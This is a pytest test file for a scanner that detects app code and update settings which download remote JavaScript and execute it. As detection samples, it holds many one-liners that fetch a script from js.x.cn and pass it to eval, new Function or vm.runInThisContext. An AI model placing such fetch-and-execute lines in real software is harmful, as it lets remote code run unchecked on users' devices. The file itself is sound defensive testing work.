import time

import pytest

from inspector.formats.reader import BufferReader
from inspector.model.artifact import Artifact
from inspector.model.observation import Context
from inspector.scan import SCANNERS, scan_leaf
from inspector.scan.base import ScanNotes
from inspector.scan.device.mechanisms import Mechanisms

SCANNER = Mechanisms()


def mechanisms(content: bytes, leaf_format: str = "javascript"):
    found = SCANNER.scan(Artifact("app", leaf_format, "x", "app", "/assets/x"), BufferReader(content), ScanNotes())
    return [s for s in found if s.observable.value.startswith("fetch-and-execute")]


@pytest.mark.parametrize(
    "content",
    [
        b'eval(await (await fetch("https://js.x.cn/a.js")).text())',
        b'(0, eval)(await (await fetch("https://js.x.cn/a.js")).text())',
        b'new Function(await (await fetch("https://js.x.cn/a.js")).text())()',
        b'fetch("https://js.x.cn/a.js").then(r=>r.text()).then(eval)',
        b'fetch("https://js.x.cn/a.js").then(function(r){return r.text()}).then(function(t){eval(t)})',
        b'fetch("https://js.x.cn/a.js").then(r=>r.text()).then(t=>new Function("require",t)(require))',
        b'const c = await (await fetch("https://js.x.cn/a.js")).text();\nawait save(c);\neval(c);\n',
        b'const r = await fetch("https://js.x.cn/a.js");\nconst c = await r.text();\nwindow.eval(c);\n',
        b'const u = "https://js.x.cn/a.js";\nasync function f() {\n  eval(await (await fetch(u)).text());\n}\n',
        b'var cfg={url:"https://js.x.cn/a.js"};fetch(cfg.url).then(r=>r.text()).then(t=>{eval(t)})',
        b'x.open("GET","https://js.x.cn/a.js");x.onload=function(){eval(x.responseText)};x.send()',
        b'axios.get("https://js.x.cn/a.js").then(({data})=>{new Function(data)()})',
        b'axios.get("https://js.x.cn/a.js").then(r => new Function(r.data)())',
        b'wx.request({\n  url: "https://js.x.cn/a.js",\n  success(res) {\n    new Function(res.data)()\n  }\n})',
        b"uni.downloadFile({\n  url: 'https://js.x.cn/a.js',\n  success: (r) => plus.runtime.install(r.path)\n})",
        b'vm.runInThisContext(await (await fetch("https://js.x.cn/a.js")).text())',
    ],
)
def test_a_script_that_evaluates_what_it_fetches(content):
    (found,) = mechanisms(content)
    assert found.observable.value == "fetch-and-execute:https://js.x.cn/a.js"
    assert (dict(found.attributes)["host"], found.context) == ("js.x.cn", Context.CODE)


@pytest.mark.parametrize(
    "content",
    [
        b'fetch("https://js.x.cn/a.json").then(r=>r.json()).then(d=>show(d))',
        b'fetch("https://js.x.cn/a.json").then(r=>r.text());function g(){return new Function("return this")()}',
        b'var u="https://js.x.cn/a.js";var g=Function("return this")();function h(k){return eval(k2)}',
        b'show("https://js.x.cn/a.js");eval(answer.data)',
        b'x.open("GET","https://js.x.cn/a");x.onload=function(){d=eval("("+x.responseText+")")}',
        b'fetch("https://js.x.cn/a.json").then(function(r){done(r)})',
        b's.src="https://js.x.cn/a.js";document.head.appendChild(s)',
        b'// eval the answer of fetch("https://js.x.cn/a.js") by hand\n',
        b'medieval(await fetch("https://js.x.cn/a.js"))',
    ],
)
def test_a_script_that_only_fetches(content):
    assert mechanisms(content) == []


@pytest.mark.parametrize(
    ("content", "leaf_format"),
    [
        (b'<string moduleConfig="true" name="CodePushServerUrl">https://js.x.cn/a.js</string>', "xml"),
        (b"<key>CodePushServerURL</key>\n\t<string>https://js.x.cn/a.js</string>", "plist"),
        (b'<preference name="CodePushServerUrl" value="https://js.x.cn/a.js"/>', "xml"),
        (b'<chcp>\n  <auto-download enabled="true"/>\n  <config-file url="https://js.x.cn/a.js"/>\n</chcp>', "xml"),
        (b'{"expo": {"sdkVersion": "50", "updates": {"enabled": true, "url": "https://js.x.cn/a.js"}}}', "json"),
        (b"<key>EXUpdatesURL</key>\n<string>https://js.x.cn/a.js</string>", "plist"),
    ],
)
def test_settings_say_where_an_app_gets_its_new_program(content, leaf_format):
    (found,) = mechanisms(content, leaf_format)
    assert found.observable.value == "fetch-and-execute:https://js.x.cn/a.js"


@pytest.mark.parametrize(
    "content",
    [
        b'{"updates": {"url": "https://js.x.cn/a.js"}}',
        b'<chcp>\n</chcp>\n<config-file url="https://js.x.cn/a.js"/>',
        b'<string name="CodePushServerUrl"></string><string name="api">https://js.x.cn/a.js</string>',
    ],
)
def test_other_addresses_near_such_settings(content):
    assert mechanisms(content, "xml") == []


def test_a_leaf_with_both_gets_host_and_mechanism():
    leaf = Artifact("app", "javascript", "x.js", "app", "/assets/x.js")
    wanted = [s for s in SCANNERS if s.INFO.name in ("endpoints", "mechanisms")]
    code = b'fetch("https://js.tuyacn.com/a.js").then(r=>r.text()).then(eval)'
    values = {s.observable.value for s in scan_leaf(leaf, BufferReader(code), wanted, ScanNotes())}
    assert {"js.tuyacn.com", "fetch-and-execute:https://js.tuyacn.com/a.js"} <= values


@pytest.mark.parametrize(
    "piece",
    [
        b'fetch("http://a.cn/a");eval(', b'u="http://a.cn/a",eval(', b'eval(await (await fetch("http://a.cn/a"',
        b'{url:"http://a.cn/a",', b'"http://a.cn/a";(((((eval', b"await (await (", b'f("http://a.cn/a",eval(x=',
        b'fetch(u);u="http://a.cn/a";eval(k);', b"codepushserverurl ", b"<chcp>", b'"updates":{',
    ],
)  # fmt: skip
@pytest.mark.parametrize("end", [b"", b"\n"])
def test_much_of_it_costs_linear_time(piece, end):
    def seconds(size: int) -> float:
        began = time.process_time()
        mechanisms((piece + end) * (size // len(piece)))
        return time.process_time() - began

    seconds(1000)
    assert seconds(120_000) < 16 * max(seconds(30_000), 0.02)
